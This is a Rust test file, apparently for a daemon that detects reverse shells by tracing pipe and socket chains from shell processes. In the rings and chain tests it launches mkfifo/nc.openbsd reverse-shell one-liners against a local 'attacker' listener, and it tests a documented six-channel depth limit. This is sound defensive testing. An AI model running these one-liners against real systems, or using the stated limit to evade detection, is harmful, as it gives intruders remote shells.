//! Relays that lead to each other, and chains that are longer than is followed.

use std::time::{Duration, Instant};

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::relayed::is_on;
use crate::common::victim::Victim;
use crate::common::{token, wait_for};
use crate::{alone, require, still_finds};

fn bash(line: &str) -> (Victim, tempfile::TempDir) {
    let directory = tempfile::tempdir().unwrap();
    let line = format!("cd {}; {line}", directory.path().display());
    (Victim::start("/bin/bash", &["-c", &line]), directory)
}

/// Shells whose pipes lead round and round, with no socket anywhere: the search ends, again and again, and the daemon has
/// time for everything else.
#[test]
fn rings_end() {
    require!("bash", "socat", "cat");
    let _alone = alone();
    let daemon = Daemon::start("");
    let rings = "mkfifo a b c d e f g h; exec 3<>a 4<>b 5<>c 6<>d 7<>e 8<>f; \
        cat <a >b & cat <b >a & \
        socat -u OPEN:c,rdonly OPEN:d,wronly & socat -u OPEN:d,rdonly OPEN:e,wronly & \
        socat -u OPEN:e,rdonly OPEN:c,wronly & \
        for i in 1 2 3 4 5 6 7 8 9 10; do sh <a >b 2>&1 & sh <c >d 2>&1 & sh <e >c 2>&1 & done; wait";
    let (_victim, _directory) = bash(rings);
    wait_for("searches", || (daemon.count("searches") >= 60).then_some(()));
    let began = Instant::now();
    for _ in 0..3 {
        still_finds(&daemon);
    }
    assert!(began.elapsed() < Duration::from_secs(5), "{:?}", began.elapsed());
    daemon.stop();
}

/// A ring with a way out: the socket is found.
#[test]
fn a_ring_with_a_way_out() {
    require!("bash", "socat", "nc.openbsd");
    let _alone = alone();
    let attacker = Listener::tcp();
    let line = format!(
        "mkfifo a b c; exec 3<>a 4<>b 5<>c; cat <b >c & cat <c >b & nc.openbsd 127.0.0.1 {} <b >a & \
         exec sh <a >b 2>&1 3<&- 4<&- 5<&-",
        attacker.port()
    );
    let daemon = Daemon::shared();
    let (_victim, _directory) = bash(&line);
    let _session = attacker.accept();
    let record = daemon
        .wait_for("the shell of the ring", |record| is_on(record, &[attacker.port()]) && record.row() == 4);
    assert!(record.ran(&["sh"]), "{}", record.brief());
}

/// `docs/limits.md`: six channels are followed, not seven.
#[test]
fn seven_in_a_row_are_too_many() {
    require!("bash", "nc.openbsd");
    let _alone = alone();
    let daemon = Daemon::shared();
    let chain = |filters: usize| {
        let attacker = Listener::tcp();
        let cats = " | cat".repeat(filters);
        // The way back is as long: a shell is found by either.
        let line = format!(
            "mkfifo f; nc.openbsd 127.0.0.1 {} <f{cats} | sh -s {} 2>&1{cats} >f",
            attacker.port(),
            token()
        );
        let (victim, directory) = bash(&line);
        let mut session = attacker.accept();
        assert!(session.run("id -u").starts_with('0'));
        (attacker.port(), session, victim, directory)
    };
    let (six, long) = (chain(5), chain(6));
    daemon.wait_for("the chain of six", |record| is_on(record, &[six.0]) && record.row() == 4);
    daemon.judged();
    let too_long = daemon.records().iter().any(|record| is_on(record, &[long.0]) && record.row() == 4);
    assert!(!too_long, "more is followed than docs/limits.md says");
}
